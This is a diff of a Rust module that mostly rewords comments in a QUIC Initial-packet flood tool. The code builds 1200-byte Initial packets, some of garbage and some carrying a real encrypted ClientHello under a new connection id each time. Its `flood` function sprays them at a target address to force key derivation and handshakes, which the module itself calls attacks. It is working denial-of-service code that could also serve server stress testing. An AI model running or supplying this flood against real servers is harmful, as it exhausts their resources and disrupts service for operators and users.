@@ -1,6 +1,6 @@
-//! First packets of QUIC connections (RFC 9000, 17.2.2) that go no further. Each makes the server
-//! derive keys. Some carry garbage. Others carry a whole TLS handshake message, and each of these
-//! costs a server without limits a handshake.
+//! Attacks with first packets of QUIC connections (RFC 9000, 17.2.2). No second packet follows.
+//! Each packet makes the server derive keys. Some packets carry garbage. Others carry a whole TLS
+//! handshake message; each of these costs a server without limits a handshake.
 
 use std::io;
 use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};
@@ -15,10 +15,10 @@ use rustls::{CipherSuite, ClientConfig, RootCertStore, Side};
 
 /// Length of a packet, bytes. Servers ignore shorter ones.
 const PACKET_LEN: usize = 1200;
-/// Packets between two checks of the time.
+/// How many packets are sent between two checks of the time.
 const PACKETS_PER_LOOK: u64 = 64;
 
-/// An Initial packet of version 1 whose connection ids come from `seed`.
+/// Returns an Initial packet of QUIC version 1 with garbage. Its connection ids come from `seed`.
 #[must_use]
 pub fn initial(seed: u64) -> Vec<u8> {
     let mut packet = Vec::with_capacity(PACKET_LEN);
@@ -28,13 +28,14 @@ pub fn initial(seed: u64) -> Vec<u8> {
         packet.push(8);
         packet.extend(id.to_be_bytes());
     }
-    // No token; the length of the rest in two bytes.
+    // No token, then the length of the rest in two bytes.
     packet.push(0);
     let rest = PACKET_LEN - packet.len() - 2;
     packet.extend((0x4000 | rest as u16).to_be_bytes());
     let mut state = seed | 1;
     packet.resize_with(PACKET_LEN, || {
-        // Marsaglia's xorshift. Any bytes will do, except zeros.
+        // Fill the packet with bytes of Marsaglia's xorshift. Any bytes are good enough, except
+        // zeros.
         state ^= state << 13;
         state ^= state >> 7;
         state ^= state << 17;
@@ -43,15 +44,15 @@ pub fn initial(seed: u64) -> Vec<u8> {
     packet
 }
 
-/// A `ClientHello`, and packets made from it. Every packet has another connection id, and is
-/// encrypted with the keys derived from that id (RFC 9001, 5.2).
+/// A `ClientHello`, from which packets are made. Every packet has another connection id, and is
+/// encrypted with the keys that are derived from this id (RFC 9001, 5.2).
 pub struct ClientHello {
     client_hello: Vec<u8>,
     suite: Suite,
 }
 
 impl ClientHello {
-    /// A client that trusts no root and offers HTTP/3.
+    /// Makes the `ClientHello` of a client that trusts no root certificate and offers HTTP/3.
     ///
     /// # Errors
     /// rustls produces no handshake message.
@@ -72,7 +73,7 @@ impl ClientHello {
         Ok(Self { client_hello, suite: suite() })
     }
 
-    /// The first packet of a connection whose id comes from `seed`.
+    /// Returns the first packet of a connection whose id comes from `seed`.
     ///
     /// # Panics
     /// If the message does not fit into a packet, which cannot happen.
@@ -118,7 +119,7 @@ impl std::fmt::Debug for ClientHello {
     }
 }
 
-/// The cipher suite with which first packets are encrypted.
+/// Returns the cipher suite with which first packets are encrypted.
 fn suite() -> Suite {
     let suites = default_provider().cipher_suites;
     let suite = suites.iter().find_map(|suite| match suite.suite() {
@@ -151,7 +152,7 @@ pub fn flood(
     let (start, mut sent) = (Instant::now(), 0_u64);
     while start.elapsed() < limit {
         for _ in 0..PACKETS_PER_LOOK {
-            // A packet that the socket does not accept is not counted.
+            // Count only packets that the socket accepts.
             let seed = (sent + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15);
             sent += u64::from(socket.send_to(&packet(seed), addr).is_ok());
         }
